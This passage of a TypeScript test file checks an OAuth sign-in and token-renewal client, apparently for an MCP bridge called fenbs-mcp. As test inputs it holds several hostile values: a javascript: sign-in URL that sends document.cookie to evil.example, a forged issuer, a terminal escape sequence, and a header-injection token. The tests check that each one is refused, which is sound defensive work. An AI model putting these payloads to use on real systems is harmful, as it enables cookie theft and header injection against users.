      await expect(renewal(credential)).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message, context: { hint: expect.stringMatching(next) } });
      expect(windows).toEqual([]);
    }
  });

  it('says the server refused the token of the last sign-in, or that it expired without a refresh token, and refuses a second step-up', async () => {
    const refused = held({ outcome: 'signed-in' }, {});
    await expect(renewal(refused.credential)).rejects.toMatchObject({
      message: 'the server refused the OAuth token from the sign-in 1 s ago',
      context: {
        hint: expect.stringMatching(
          /^the server refused the token it just issued: check the scopes \/ the server's configuration; .*audience=.*; no new sign-in opens/,
        ),
      },
    });
    const expired = held({ outcome: 'signed-in' }, { expiresAt: 1_000_000_000_000 + 60_000 });
    expired.clock.now += 120_000;
    await expect(renewal(expired.credential)).rejects.toMatchObject({
      message: 'the OAuth token from the sign-in 121 s ago has expired, and the authorization server issued no refresh token',
    });
    const stepped = held({ outcome: 'signed-in', stepUp: true }, { scope: 'mcp:read' });
    await expect(renewal(stepped.credential, 403, 'Bearer error="insufficient_scope", scope="mcp:read mcp:admin"')).rejects.toMatchObject({
      message: 'the server asks again for wider scopes after the sign-in 1 s ago that asked for them',
    });
    for (const { windows } of [refused, expired, stepped]) expect(windows).toEqual([]);
  });

  it('explains a refusal of the token just put in place while it is younger than the quiet period, and only of that token', () => {
    const { credential, clock } = held({ outcome: 'signed-in' }, {});
    const sent = credential.authorization();
    expect(credential.refusedAfterRenewal({ status: 401, wwwAuthenticate: 'Bearer error="invalid_token"', sent })).toMatchObject({
      code: 'AUTH_REQUIRED',
      message: 'the server refused (401) the OAuth token its authorization server issued 1 s ago',
      context: { status: 401, hint: expect.stringMatching(/^the server refused the token it just issued/) },
    });
    expect(credential.refusedAfterRenewal({ status: 401, wwwAuthenticate: undefined, sent: 'Bearer another-token' })).toBeUndefined();
    clock.now += SIGN_IN_QUIET_MS;
    expect(credential.refusedAfterRenewal({ status: 401, wwwAuthenticate: undefined, sent })).toBeUndefined();
  });

  it('waits for a sign-in another bridge has started instead of refusing it, and then takes its token without a window', async () => {
    const setup = await startOAuthSetup();
    cleanups.push(() => setup.close());
    const browser = await import('../../../helpers/oauth-browser-driver.js');
    const home = tempDir();
    const make = (logger: typeof silent, openBrowser: (url: string) => void) => {
      const credential = new OAuthCredential({
        url: new URL(setup.mcpUrl),
        allowHttp: false,
        settings: parseOAuthSettings({}, {}, () => ''),
        logger,
        env: { FENBS_MCP_HOME: home },
        registerSecret: () => undefined,
        dispatcher: dispatcher(),
        writeStderr: () => undefined,
        openBrowser,
      });
      cleanups.push(() => credential.close());
      return credential;
    };
    let opened!: (url: string) => void;
    const windowOfFirst = new Promise<string>((resolve) => (opened = resolve));
    let waits!: () => void;
    const secondWaits = new Promise<void>((resolve) => (waits = resolve));
    const first = make(silent, (url) => opened(url));
    const windowsOfSecond: string[] = [];
    const second = make(pino({ level: 'info' }, { write: (line: string) => void (line.includes('waiting for it') && waits()) }), (url) =>
      windowsOfSecond.push(url),
    );
    const challenge = {
      status: 401 as const,
      wwwAuthenticate: `Bearer resource_metadata="${new URL('/.well-known/oauth-protected-resource/mcp', setup.mcpUrl).href}"`,
      sent: undefined,
    };
    const firstDone = first.renew(challenge, AbortSignal.timeout(20_000));
    const url = await windowOfFirst;
    expect(new TokenStore(home, new URL(setup.mcpUrl)).read().lastSignIn).toMatchObject({ outcome: 'started' });
    const secondDone = second.renew(challenge, AbortSignal.timeout(20_000));
    // The second waits for the lock (or, wrongly, answers at once).
    await Promise.race([secondWaits, secondDone]);
    await browser.approve(url);
    expect(await firstDone).toBe(true);
    expect(await secondDone).toBe(true);
    expect(second.authorization()).toBe(first.authorization());
    expect(windowsOfSecond).toEqual([]);
  });

  it('opens a window again once the quiet period has passed, and ignores a record from more than a period in the future', async () => {
    const setup = await startOAuthSetup();
    cleanups.push(() => setup.close());
    const browser = await import('../../../helpers/oauth-browser-driver.js');
    const home = tempDir();
    const clock = { now: Date.now() };
    const store = new TokenStore(home, new URL(setup.mcpUrl));
    store.write({ server: setup.mcpUrl, issuers: {}, lastSignIn: { at: clock.now, outcome: 'denied', stepUp: false } });
    const windows: string[] = [];
    const credential = new OAuthCredential({
      url: new URL(setup.mcpUrl),
      allowHttp: false,
      settings: parseOAuthSettings({}, {}, () => ''),
      logger: silent,
      env: { FENBS_MCP_HOME: home },
      registerSecret: () => undefined,
      dispatcher: dispatcher(),
      writeStderr: () => undefined,
      now: () => clock.now,
      openBrowser: (url) => {
        windows.push(url);
        void browser.approve(url);
      },
    });
    cleanups.push(() => credential.close());
    const challenge = `Bearer resource_metadata="${new URL('/.well-known/oauth-protected-resource/mcp', setup.mcpUrl).href}"`;
    const renew = () => credential.renew({ status: 401, wwwAuthenticate: challenge, sent: credential.authorization() }, AbortSignal.timeout(20_000));
    await expect(renew()).rejects.toMatchObject({ message: 'the sign-in 0 s ago was denied' });
    // Found under the lock, a sign-in `started` is one whose bridge died before it ended.
    store.recordSignIn({ at: clock.now, outcome: 'started', stepUp: false });
    await expect(renew()).rejects.toMatchObject({ message: 'a sign-in started 0 s ago (by this or another fenbs-mcp) and did not finish' });
    clock.now += SIGN_IN_QUIET_MS;
    expect(await renew()).toBe(true);
    expect(windows).toHaveLength(1);
    expect(store.read().lastSignIn).toEqual({ at: clock.now, outcome: 'signed-in', stepUp: false });
    // A clock set back (or a planted record): a time more than a period ahead holds nothing.
    store.recordSignIn({ at: clock.now + 2 * SIGN_IN_QUIET_MS, outcome: 'denied', stepUp: false });
    setup.expireAccessTokens();
    store.update(Object.keys(store.read().issuers)[0]!, setup.mcpUrl, (entry) => ({ ...entry, tokens: { ...entry.tokens!, refreshToken: undefined } }));
    expect(await renew()).toBe(true);
    expect(windows).toHaveLength(2);
  });
});

describe('sign-in steps against a scripted authorization server', () => {
  /** A scripted AS: registration answers `register`, the token endpoint answers `token`. */
  async function scriptedAs(script: { register?: (res: ServerResponse) => void; token?: (res: ServerResponse) => void; authMethods?: string[] }) {
    const tokenRequests: { auth: string | undefined; body: string }[] = [];
    const origin = await serve((req, res, origin) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        const json = (body: unknown) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
        if (req.url === '/.well-known/oauth-protected-resource/mcp') json({ resource: `${origin}/mcp`, authorization_servers: [origin] });
        else if (req.url === '/.well-known/oauth-authorization-server') json(as);
        else if (req.url === '/register')
          (
            script.register ??
            ((r) =>
              r
                .writeHead(201, { 'content-type': 'application/json' })
                .end(JSON.stringify({ client_id: 'dcr-client', client_secret: 'dcr-secret-value', client_secret_expires_at: 0 })))
          )(res);
        else if (req.url === '/token') {
          tokenRequests.push({ auth: req.headers.authorization, body: Buffer.concat(chunks).toString() });
          (
            script.token ??
            ((r) =>
              r
                .writeHead(200, { 'content-type': 'application/json' })
                .end(JSON.stringify({ access_token: 'at-value-1234', token_type: 'bearer', expires_in: 60 })))
          )(res);
        } else res.writeHead(404).end();
      });
    });
    const as = {
      issuer: origin,
      authorization_endpoint: `${origin}/auth`,
      token_endpoint: `${origin}/token`,
      registration_endpoint: `${origin}/register`,
      code_challenge_methods_supported: ['S256'],
      authorization_response_iss_parameter_supported: true,
      ...(script.authMethods === undefined ? {} : { token_endpoint_auth_methods_supported: script.authMethods }),
    };
    return { as, tokenRequests, discovered: { as, resource: new URL(`${origin}/mcp`), scopesSupported: undefined } };
  }

  /** A "browser" that answers the callback with the parameters `reply` builds from the authorization URL. */
  function flowDeps(reply: (auth: URL) => Record<string, string>, settings: object = {}): FlowDeps & { secrets: string[] } {
    const secrets: string[] = [];
    return {
      secrets,
      http: createOAuthHttp(dispatcher(), false),
      settings: {
        grant: 'authorization-code',
        clientId: undefined,
        clientSecret: undefined,
        issuer: undefined,
        clientMetadataUrl: undefined,
        callbackPort: undefined,
        loginTimeoutMs: 10_000,
        scope: undefined,
        resource: undefined,
        authorizeParams: [],
        clientKey: undefined,
        allowPrivateNetwork: false,
        ...settings,
      },
      registerSecret: (s) => secrets.push(s),
      mask: (text) => text,
      showUrl: () => undefined,
      showDeviceCode: () => undefined,
      now: () => 0,
      openBrowser: (url) => {
        const auth = new URL(url);
        const callback = new URL(auth.searchParams.get('redirect_uri')!);
        for (const [k, v] of Object.entries({ state: auth.searchParams.get('state')!, ...reply(auth) })) callback.searchParams.set(k, v);
        void fetch(callback).then((r) => r.text());
      },
    };
  }

  it('exchanges the code with the verifier and resource, registers every secret, and uses client_secret_post where only that is offered', async () => {
    const { as, tokenRequests, discovered } = await scriptedAs({ authMethods: ['client_secret_post'] });
    const deps = flowDeps(() => ({ code: 'code-value-5678', iss: as.issuer }));
    const result = await signIn(deps, { discovered, scope: 'a b', storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) });
    expect(result.client).toMatchObject({ kind: 'registered', clientId: 'dcr-client', clientSecret: 'dcr-secret-value' });
    expect(result.tokens).toMatchObject({ accessToken: 'at-value-1234', expiresAt: 60_000 });
    const body = new URLSearchParams(tokenRequests[0]!.body);
    expect(body.get('resource')).toBe(`${as.issuer}/mcp`);
    expect(body.get('client_secret')).toBe('dcr-secret-value');
    expect(deps.secrets).toEqual(expect.arrayContaining(['dcr-secret-value', 'code-value-5678', 'at-value-1234', body.get('code_verifier')]));
  });

  it('neither shows nor opens a sign-in page that may not be opened, even when discovery did not check it', async () => {
    const { as, discovered } = await scriptedAs({});
    const shown: string[] = [];
    const deps = { ...flowDeps(() => ({})), showUrl: (url: string) => shown.push(url), openBrowser: (url: string) => shown.push(url) };
    const hostile = { ...discovered, as: { ...as, authorization_endpoint: 'javascript:fetch("//evil.example/"+document.cookie)' } };
    await expect(
      signIn(deps, { discovered: hostile, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) }),
    ).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      failure: 'failed',
      message: expect.stringMatching(/^refused to open the sign-in page of .* in the browser: its scheme is javascript:/),
    });
    expect(shown).toEqual([]);
  });

  it('refuses an authorization response whose iss is another server (RFC 9207)', async () => {
    const { discovered } = await scriptedAs({});
    const deps = flowDeps(() => ({ code: 'c', iss: 'https://evil.example' }));
    await expect(
      signIn(deps, { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) }),
    ).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/failed its checks/) });
  });

  it('reports an error the authorization server returned, and a refused client as such', async () => {
    const { as, discovered } = await scriptedAs({});
    await expect(
      signIn(
        flowDeps(() => ({ error: 'invalid_scope', error_description: 'no such scope', iss: as.issuer })),
        { discovered, scope: 'x', storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) },
      ),
    ).rejects.toMatchObject({
      failure: 'failed',
      message: expect.stringMatching(/refused the sign-in: invalid_scope \(no such scope\)/),
    });
    const refusing = await scriptedAs({ token: (res) => res.writeHead(401, { 'content-type': 'application/json' }).end('{"error":"invalid_client"}') });
    await expect(
      signIn(
        flowDeps(() => ({ code: 'c', iss: refusing.as.issuer })),
        { discovered: refusing.discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) },
      ),
    ).rejects.toMatchObject({ failure: 'client-rejected' });
  });

  it('says so when registration is refused, and when the configured callback port is taken', async () => {
    const { discovered } = await scriptedAs({
      register: (res) => res.writeHead(400, { 'content-type': 'application/json' }).end('{"error":"invalid_client_metadata"}'),
    });
    await expect(
      signIn(
        flowDeps(() => ({})),
        { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) },
      ),
    ).rejects.toMatchObject({ message: expect.stringMatching(/registering with the authorization server .* failed/) });
    const taken = Number(new URL(await serve((_req, res) => res.end())).port);
    await expect(
      signIn(
        flowDeps(() => ({}), { callbackPort: taken }),
        { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) },
      ),
    ).rejects.toMatchObject({ message: expect.stringMatching(/cannot listen for the sign-in callback/) });
    // A remembered port that is taken now is not an error: another free port is used.
    const ok = await scriptedAs({});
    const result = await signIn(
      flowDeps(() => ({ code: 'c', iss: ok.as.issuer })),
      { discovered: ok.discovered, scope: undefined, storedClient: undefined, preferredPort: taken, signal: AbortSignal.timeout(10_000) },
    );
    expect(result.client.redirectUri).not.toContain(`:${taken}/`);
  });

  const tokenResponse = (body: object) => (res: ServerResponse) =>
    res
      .writeHead(200, { 'content-type': 'application/json' })
      .end(JSON.stringify({ access_token: 'at-value-1234', token_type: 'Bearer', expires_in: 60, ...body }));
  const signInWith = async (body: object) => {
    const { as, discovered } = await scriptedAs({ token: tokenResponse(body) });
    return signIn(
      flowDeps(() => ({ code: 'code-value-5678', iss: as.issuer })),
      { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) },
    );
  };
  const refreshWith = async (body: object) => {
    const { discovered } = await scriptedAs({ token: tokenResponse(body) });
    return refreshTokens(
      flowDeps(() => ({})),
      discovered,
      { kind: 'registered', clientId: 'c' },
      { accessToken: 'at-1', refreshToken: 'rt-1', obtainedAt: 0 },
      AbortSignal.timeout(5000),
    );
  };

  it('reads a token response without token_type as Bearer, from the code exchange and from a refresh, as openauth sends it (RFC 6749 §5.1 made lenient)', async () => {
    expect((await signInWith({ token_type: undefined })).tokens.accessToken).toBe('at-value-1234');
    expect((await refreshWith({ token_type: undefined })).accessToken).toBe('at-value-1234');
  });

  it('refuses a token whose type is not Bearer (compared case-insensitively), from the code exchange and from a refresh, naming the type (RFC 6749 §7.1, RFC 9449)', async () => {
    expect((await signInWith({ token_type: 'BeArEr' })).tokens.accessToken).toBe('at-value-1234');
    // oauth4webapi passes DPoP through; it refuses MAC and other types it does not know, without naming them.
    await expect(signInWith({ token_type: 'DPoP' })).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      failure: 'failed',
      message: 'the code exchange returned a token of type "dpop": fenbs-mcp sends only Bearer tokens (RFC 6750), so it is not kept',
      context: { hint: expect.stringMatching(/issue this client Bearer tokens/) },
    });
    await expect(signInWith({ token_type: 'MAC' })).rejects.toMatchObject({
      message: expect.stringMatching(/^the code exchange returned a token of type "mac": /),
    });
    await expect(signInWith({ token_type: 'x\u001b]0;pwned\u0007' })).rejects.toMatchObject({ message: expect.stringContaining('type "x\\x1b]0;pwned\\x07"') });
    await expect(refreshWith({ token_type: 'dpop' })).rejects.toMatchObject({
      kind: 'other',
      message: expect.stringMatching(/^the token refresh returned a token of type "dpop"/),
    });
    await expect(refreshWith({ token_type: 'mac' })).rejects.toMatchObject({
      kind: 'other',
      message: expect.stringMatching(/^the token refresh returned a token of type "mac"/),
    });
  });

  it('refuses an access or refresh token no Authorization header can carry, from the code exchange and from a refresh', async () => {
    await expect(signInWith({ access_token: 'at\r\nX-Injected:1' })).rejects.toMatchObject({
      message: 'the code exchange returned an access token that contains a line break, so it cannot be sent in an Authorization header; it is not kept',
    });
    await expect(signInWith({ refresh_token: 'rt\u0000x' })).rejects.toMatchObject({
      message: expect.stringMatching(/returned a refresh token that contains a control character/),
    });
    await expect(signInWith({ access_token: 'two words' })).rejects.toMatchObject({ message: expect.stringMatching(/contains a space or a tab/) });
    await expect(signInWith({ access_token: 'x'.repeat(MAX_TOKEN_CHARS + 1) })).rejects.toMatchObject({
      message: expect.stringMatching(new RegExp(`more than ${MAX_TOKEN_CHARS} characters`)),
    });
    await expect(refreshWith({ access_token: 'at\n2' })).rejects.toMatchObject({
      kind: 'other',
      message: expect.stringMatching(/^the token refresh returned an access token that contains a line break/),
    });
    await expect(refreshWith({ refresh_token: 'caf\u00e9\u2028' })).rejects.toMatchObject({
      message: expect.stringMatching(/refresh token that contains a character outside Latin-1/),
    });
    // What oauth4webapi refuses itself is reported as it says it.
    await expect(refreshWith({ access_token: 42 })).rejects.toMatchObject({
      kind: 'other',
      message: expect.stringMatching(/^the token refresh failed: .*access_token/),
    });
  });

  it('shows the words of a token endpoint error with their control characters made visible, and bounded', async () => {
    const { discovered } = await scriptedAs({
      token: (res) =>
        res
          .writeHead(400, { 'content-type': 'application/json' })
          .end(JSON.stringify({ error: 'invalid_request\u001b[2J', error_description: `a${'b'.repeat(300)}` })),
    });
    const refused = await refreshTokens(
      flowDeps(() => ({})),
      discovered,
      { kind: 'registered', clientId: 'c' },
      { accessToken: 'a', refreshToken: 'r', obtainedAt: 0 },
      AbortSignal.timeout(5000),
    ).then(
      () => new Error('refreshed'),
      (error: Error) => error,
    );
    expect(refused.message).toBe(`the token refresh refused: invalid_request\\x1b[2J (a${'b'.repeat(199)}…)`);
  });

  it('keeps no token from a response it refuses: the credential answers AUTH_REQUIRED and the cache holds none of it', async () => {
    const { as, discovered } = await scriptedAs({ token: tokenResponse({ token_type: 'DPoP', access_token: 'dpop-bound-token-value' }) });
    const home = tempDir();
    const credential = new OAuthCredential({
      url: discovered.resource,
      allowHttp: false,
      settings: parseOAuthSettings({}, {}, () => ''),
      logger: silent,
      env: { FENBS_MCP_HOME: home },
      registerSecret: () => undefined,
      dispatcher: dispatcher(),
      writeStderr: () => undefined,
      openBrowser: flowDeps(() => ({ code: 'code-value-5678', iss: as.issuer })).openBrowser,
    });
    cleanups.push(() => credential.close());
    const challenge = `Bearer resource_metadata="${as.issuer}/.well-known/oauth-protected-resource/mcp"`;
    await expect(credential.renew({ status: 401, wwwAuthenticate: challenge, sent: undefined }, AbortSignal.timeout(10_000))).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      message: expect.stringMatching(/type "dpop"/),
    });
    expect(credential.authorization()).toBeUndefined();
    expect(Object.values(credential.store.read().issuers).map((entry) => entry.tokens)).toEqual([undefined]);
    expect(readFileSync(credential.store.file, 'utf8')).not.toContain('dpop-bound-token-value');
  });

  it('keeps the cached tokens when a refresh returns one it refuses, and answers AUTH_REQUIRED with what to do', async () => {
    const { as, discovered } = await scriptedAs({ token: tokenResponse({ access_token: 'line\nbreak' }) });
    const home = tempDir();
    const server = discovered.resource.href;
    const cached = { accessToken: 'old-access-token', refreshToken: 'old-refresh-token', obtainedAt: 0, expiresAt: 1 };
    const store = new TokenStore(home, discovered.resource);
    store.write({
      server,
      issuer: as.issuer,
      issuers: { [as.issuer]: { resource: server, client: { kind: 'registered', clientId: 'dcr-client' }, tokens: cached } },
    });
    const before = readFileSync(store.file, 'utf8');
    const credential = new OAuthCredential({
      url: discovered.resource,
      allowHttp: false,
      settings: parseOAuthSettings({}, {}, () => ''),
      logger: silent,
      env: { FENBS_MCP_HOME: home },
      registerSecret: () => undefined,
      dispatcher: dispatcher(),
      writeStderr: () => undefined,
      openBrowser: () => undefined,
    });
    cleanups.push(() => credential.close());
    const challenge = `Bearer resource_metadata="${as.issuer}/.well-known/oauth-protected-resource/mcp"`;
    await expect(
      credential.renew({ status: 401, wwwAuthenticate: challenge, sent: credential.authorization() }, AbortSignal.timeout(10_000)),
    ).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      message: 'the token refresh returned an access token that contains a line break, so it cannot be sent in an Authorization header; it is not kept',
      context: { hint: expect.stringMatching(/Bearer tokens of plain characters/) },
    });
    expect(credential.authorization()).toBe('Bearer old-access-token');
    expect(readFileSync(store.file, 'utf8')).toBe(before);
  });

  it('refresh keeps the newest refresh token and names a refused grant', async () => {
    const { discovered } = await scriptedAs({
      token: (res) =>
        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ access_token: 'at-2', token_type: 'bearer', refresh_token: 'rt-2' })),
    });
    const deps = flowDeps(() => ({}));
    const client = { kind: 'registered' as const, clientId: 'c' };
    expect(
      await refreshTokens(deps, discovered, client, { accessToken: 'at-1', refreshToken: 'rt-1', obtainedAt: 0 }, AbortSignal.timeout(5000)),
    ).toMatchObject({ accessToken: 'at-2', refreshToken: 'rt-2' });
    await expect(refreshTokens(deps, discovered, client, { accessToken: 'at-1', obtainedAt: 0 }, AbortSignal.timeout(5000))).rejects.toMatchObject({
      kind: 'invalid-grant',
    });
    const revoked = await scriptedAs({ token: (res) => res.writeHead(400, { 'content-type': 'application/json' }).end('{"error":"invalid_grant"}') });
    await expect(
      refreshTokens(deps, revoked.discovered, client, { accessToken: 'at-1', refreshToken: 'rt-1', obtainedAt: 0 }, AbortSignal.timeout(5000)),
    ).rejects.toMatchObject({ kind: 'invalid-grant', message: expect.stringMatching(/invalid_grant/) });
  });
});
